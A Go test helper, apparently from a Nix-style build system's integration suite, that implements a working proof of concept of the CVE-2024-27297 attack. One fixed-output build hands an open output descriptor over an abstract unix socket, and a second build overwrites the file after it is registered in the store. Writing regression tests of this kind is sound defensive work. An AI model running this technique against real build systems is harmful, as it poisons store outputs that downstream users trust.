// Command fdpass is the attack of a fixed-output build on another one
// running at the same time (the CVE-2024-27297 class), for the tests in
// package integration, which build it statically and run it as a builder.
// It prints what it did, a line per step.
//
//	fdpass victim NAME OUT CONTENT
//	    writes CONTENT to OUT, keeps OUT open for writing, listens on the
//	    abstract unix socket NAME and hands the descriptor to whoever
//	    connects within 20 s, then exits 0
//	fdpass accomplice NAME OUT CONTENT EVIL
//	    writes CONTENT to OUT, connects to NAME (for up to 20 s), receives
//	    the descriptor, waits until the file it names is registered (mtime
//	    1, as canonicalisation leaves it) or removed (no links left), waits
//	    a second more and writes EVIL over it; it exits 0 whatever happens
package main

import (
	"fmt"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 5 {
		fmt.Fprintln(os.Stderr, "usage: fdpass victim|accomplice NAME OUT CONTENT [EVIL]")
		os.Exit(2)
	}
	role, name, out, content := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	if err := os.WriteFile(out, []byte(content), 0o644); err != nil {
		fmt.Println(role+": writing the output:", err)
		os.Exit(1)
	}
	addr := &unix.SockaddrUnix{Name: "@" + name} // a leading @ is the abstract namespace
	switch role {
	case "victim":
		victim(addr, out)
	case "accomplice":
		if len(os.Args) != 6 {
			os.Exit(2)
		}
		accomplice(addr, os.Args[5])
	default:
		os.Exit(2)
	}
}

func say(format string, a ...any) { fmt.Printf(format+"\n", a...) }

func victim(addr *unix.SockaddrUnix, out string) {
	fd, err := unix.Open(out, unix.O_RDWR, 0)
	if err != nil {
		say("victim: opening the output: %v", err)
		return
	}
	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		say("victim: socket: %v", err)
		return
	}
	if err := unix.Bind(s, addr); err != nil {
		say("victim: bind: %v", err)
		return
	}
	if err := unix.Listen(s, 1); err != nil {
		say("victim: listen: %v", err)
		return
	}
	pfd := []unix.PollFd{{Fd: int32(s), Events: unix.POLLIN}}
	if n, err := unix.Poll(pfd, 20000); n != 1 {
		say("victim: nobody connected: %v", err)
		return
	}
	c, _, err := unix.Accept(s)
	if err != nil {
		say("victim: accept: %v", err)
		return
	}
	if err := unix.Sendmsg(c, []byte("x"), unix.UnixRights(fd), nil, 0); err != nil {
		say("victim: sendmsg: %v", err)
		return
	}
	say("victim: sent the descriptor of the output")
}

func accomplice(addr *unix.SockaddrUnix, evil string) {
	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		say("accomplice: socket: %v", err)
		return
	}
	deadline := time.Now().Add(20 * time.Second)
	for {
		if err = unix.Connect(s, addr); err == nil {
			break
		}
		if time.Now().After(deadline) {
			say("accomplice: connect: %v", err)
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	buf, oob := make([]byte, 1), make([]byte, unix.CmsgSpace(4))
	_, oobn, _, _, err := unix.Recvmsg(s, buf, oob, 0)
	if err != nil {
		say("accomplice: recvmsg: %v", err)
		return
	}
	msgs, err := unix.ParseSocketControlMessage(oob[:oobn])
	if err != nil || len(msgs) != 1 {
		say("accomplice: no descriptor came: %v", err)
		return
	}
	fds, err := unix.ParseUnixRights(&msgs[0])
	if err != nil || len(fds) != 1 {
		say("accomplice: no descriptor came: %v", err)
		return
	}
	fd := fds[0]
	say("accomplice: got a descriptor")
	deadline = time.Now().Add(30 * time.Second)
	for {
		var st unix.Stat_t
		if err := unix.Fstat(fd, &st); err != nil {
			say("accomplice: fstat: %v", err)
			return
		}
		if st.Nlink == 0 {
			say("accomplice: the file was removed")
			break
		}
		if st.Mtim.Sec == 1 {
			say("accomplice: the file was registered")
			break
		}
		if time.Now().After(deadline) {
			say("accomplice: the file never changed")
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	time.Sleep(time.Second)
	if err := unix.Ftruncate(fd, 0); err != nil {
		say("accomplice: truncate: %v", err)
		return
	}
	if _, err := unix.Pwrite(fd, []byte(evil), 0); err != nil {
		say("accomplice: write: %v", err)
		return
	}
	say("accomplice: wrote over it")
}
